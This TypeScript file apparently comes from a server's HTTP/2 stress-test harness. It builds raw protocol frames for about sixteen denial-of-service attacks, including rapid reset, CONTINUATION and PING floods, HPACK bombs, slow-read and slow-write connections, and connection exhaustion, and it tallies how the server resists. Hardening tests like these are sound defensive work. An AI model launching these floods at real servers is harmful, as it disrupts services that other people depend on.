import type { Socket } from 'node:net';
import { block, endHeaders, endStream, frame, headers, number, preface, settings, type, type Field } from '../../http2/wire.ts';
import { allClosed, attackers, pour, sleep, type Attack, type Attacker, type Place } from './sockets.ts';

const request = (path: string, method = 'GET', more: readonly Field[] = []): readonly Field[] => [[':method', method], [':scheme', 'http'], [':authority', 'x'], [':path', path], ...more];

function hello(socket: Socket, window = 65_535): void {
  socket.write(Buffer.concat([preface, settings({ 4: window })]));
}

// oxlint-disable-next-line no-control-regex -- frames are what this is about
const toldWhy = /\x07\0\0\0\0\0[^]{4}\0\0\0[\x09\x0b]/;
// oxlint-disable-next-line no-control-regex -- RST_STREAM with INTERNAL_ERROR or CANCEL
const reset = /\0\0\x04\x03\0\0\0\0[^]\0\0\0[\x02\x08]/g;

// oxlint-disable-next-line no-control-regex -- RST_STREAM with REFUSED_STREAM
const refusal = /\0\0\x04\x03\0\0\0\0[^]\0\0\0\x07/g;

/** How many were told with GOAWAY to be calm (code 11), or that this is no HPACK (9). */
function calmed(all: readonly Attacker[]): number {
  return all.filter(({ text }) => toldWhy.test(text)).length;
}

/** The same frames again and again on 30 connections until each is ended. */
async function flood(place: Place, bytes: () => Buffer, first?: Buffer): Promise<Readonly<Record<string, number>>> {
  let sent = 0;
  const all = await attackers(place, 30, (socket) => {
    hello(socket);
    if (first !== undefined) socket.write(first);
    pour(socket, bytes, (length) => (sent += length));
  });
  const told = await allClosed(all, 8000);
  return { ...told, sentKiB: Math.round(sent / all.length / 1024) };
}

/** A connection for each request that its index makes. */
function streams(count: number, each: (id: number) => readonly Buffer[]): Buffer {
  return Buffer.concat(Array.from({ length: count }, (_, index) => each(2 * index + 1)).flat());
}

export const http2Attacks: Readonly<Record<string, Attack>> = {
  /** Requests that are reset at once. */
  'rapid reset': async ({ http }) => {
    const head = block(request('/reset'));
    let id = -1;
    return flood(http, () => {
      // One count for all connections: numbers only have to grow.
      const frames = Array.from({ length: 20 }, () => {
        id += 2;
        return [...headers(id, head, endStream), frame(type.reset, 0, id, number(8))];
      });
      return Buffer.concat(frames.flat());
    });
  },
  /** Requests that make us reset them: a window that overflows. */
  'made to reset': async ({ http }) => {
    const head = block(request('/reset'));
    let id = -1;
    return flood(http, () => {
      const frames = Array.from({ length: 20 }, () => {
        id += 2;
        return [...headers(id, head, endStream), frame(type.windowUpdate, 0, id, number(0))];
      });
      return Buffer.concat(frames.flat());
    });
  },
  'continuation flood': async ({ http }) => {
    const part = frame(type.continuation, 0, 1, Buffer.alloc(16_384));
    return flood(http, () => part, frame(type.headers, endStream, 1, block(request('/'))));
  },
  'empty continuations': async ({ http }) => {
    const part = Buffer.concat(Array.from({ length: 100 }, () => frame(type.continuation, 0, 1)));
    return flood(http, () => part, frame(type.headers, endStream, 1, block(request('/'))));
  },
  'settings flood': async ({ http }) => {
    const some = Buffer.concat(Array.from({ length: 100 }, (_, index) => settings({ 4: 65_535 + index })));
    return flood(http, () => some);
  },
  'ping flood': async ({ http }) => {
    const some = Buffer.concat(Array.from({ length: 100 }, () => frame(type.ping, 0, 0, 'xxxxxxxx')));
    return flood(http, () => some);
  },
  'window flood': async ({ http }) => {
    const some = Buffer.concat(Array.from({ length: 100 }, () => frame(type.windowUpdate, 0, 0, number(1))));
    return flood(http, () => some);
  },
  'empty data flood': async ({ http }) => {
    const some = Buffer.concat(Array.from({ length: 100 }, () => frame(type.data, 0, 1)));
    return flood(http, () => some, Buffer.concat(headers(1, block(request('/', 'POST')), 0)));
  },
  'unknown frames': async ({ http }) => {
    const some = Buffer.concat(Array.from({ length: 100 }, () => frame(99, 0, 0, 'x')));
    return flood(http, () => some);
  },
  /** An entry of 4 KB, referred to 16,000 times in each of 50 blocks: 64 MB of fields in 16 KB. */
  'HPACK bombs': async ({ http }) => {
    const entry = block([...request('/'), ['x', 'v'.repeat(3900)]], 'indexed');
    const bomb = Buffer.alloc(16_000, 0xbe);
    const all = await attackers(http, 60, (socket) => {
      hello(socket);
      socket.write(Buffer.concat([...headers(1, entry, endStream), ...Array.from({ length: 50 }, (_, index) => frame(type.headers, endStream | endHeaders, 2 * index + 3, bomb))]));
    });
    const told = await allClosed(all, 5000);
    return { ...told, calmed: calmed(all) };
  },
  /** 20 connections with 100 requests that get no answer, whose heads of 58 KB are written in some 50 bytes (CVE-2026-49975); each is another one. */
  'heads of references': async ({ http }) => {
    const entry = block([...request('/'), ['x', 'v'.repeat(3900)]], 'indexed');
    const fifteen = Buffer.alloc(15, 0xbe);
    const all = await attackers(http, 20, (socket) => {
      hello(socket);
      socket.write(Buffer.concat(headers(1, entry, endStream)));
      // What comes first begins a few at a time.
      setTimeout(() => socket.write(streams(100, (id) => headers(id + 2, Buffer.concat([block(request(`/reset${id}`)), fifteen]), endStream))), 100);
    });
    await sleep(1200);
    const refused = all.reduce((sum, { text }) => sum + (text.match(refusal)?.length ?? 0), 0);
    for (const { socket } of all) socket.destroy();
    return { connections: all.length, refused };
  },
  /** Lists of 3,000 fields in 15 KB each, again and again on 20 connections. */
  'header bombs on streams': async ({ http }) => {
    const head = block(request('/', 'GET', Array.from({ length: 3000 }, (): Field => ['a', 'b'])));
    const all = await attackers(http, 20, (socket) => {
      hello(socket);
      let id = -1;
      pour(socket, () => Buffer.concat([...headers((id += 2), head, endStream)]), () => {});
    });
    return allClosed(all, 8000);
  },
  /** A head that comes byte by byte, on 500 connections. */
  'slow frames': async ({ http }) => {
    const bytes = Buffer.concat(headers(1, block(request('/')), endStream));
    const all = await attackers(http, 500, (socket) => {
      hello(socket);
      let p = 0;
      const timer = setInterval(() => (socket.writable && p < bytes.length ? socket.write(bytes.subarray(p, ++p)) : clearInterval(timer)), 200);
      socket.on('close', () => clearInterval(timer));
    });
    return allClosed(all, 6000);
  },
  /**
   * 4 connections with 25 responses of 64 MiB each; windows are wide, and nothing is read. More would fill what the kernel has for the buffers of
   * all sockets, and everybody on the machine would wait.
   */
  'slow readers of streams': async ({ http }) => {
    const all = await attackers(http, 4, (socket) => {
      socket.pause();
      hello(socket, 2 ** 31 - 1);
      socket.write(Buffer.concat([frame(type.windowUpdate, 0, 0, number(2 ** 30)), streams(25, (id) => headers(id, block(request('/large')), endStream))]));
    }, 'leave');
    await sleep(3000);
    for (const { socket } of all) socket.destroy();
    return { connections: all.length };
  },
  /** The same, read, with windows of a byte that are never opened: ended by streamIdle. */
  'shut windows': async ({ http }) => {
    const all = await attackers(http, 4, (socket) => {
      hello(socket, 1);
      socket.write(streams(25, (id) => headers(id, block(request('/large')), endStream)));
    });
    const resets = (): number => all.reduce((sum, { text }) => sum + (text.match(reset)?.length ?? 0), 0);
    for (let waited = 0; resets() < 100 && waited < 12_000; waited += 100) await sleep(100);
    for (const { socket } of all) socket.destroy();
    return { connections: all.length, resets: resets() };
  },
  /** 10 connections with 100 uploads each, to a backend that takes nothing: as much as the windows let through. */
  'endless bodies on streams': async ({ http }) => {
    const piece = Buffer.alloc(16_384, 'y');
    let sent = 0;
    const all = await attackers(http, 10, (socket) => {
      hello(socket);
      socket.write(streams(100, (id) => headers(id, block(request('/stall', 'POST')), 0)));
      // What is beyond the window would be a fault; 4 MiB are what a connection may send at once.
      for (let round = 0; round < 2; round++) {
        for (let index = 0; index < 100; index++) {
          socket.write(frame(type.data, 0, 2 * index + 1, piece));
          sent += piece.length;
        }
      }
    });
    await sleep(5000);
    for (const { socket } of all) socket.destroy();
    return { connections: all.length, sentMiB: Math.round(sent / 2 ** 20) };
  },
  'idle HTTP/2 connections': async ({ http }) => allClosed(await attackers(http, 1000, (socket) => hello(socket)), 9000),
};
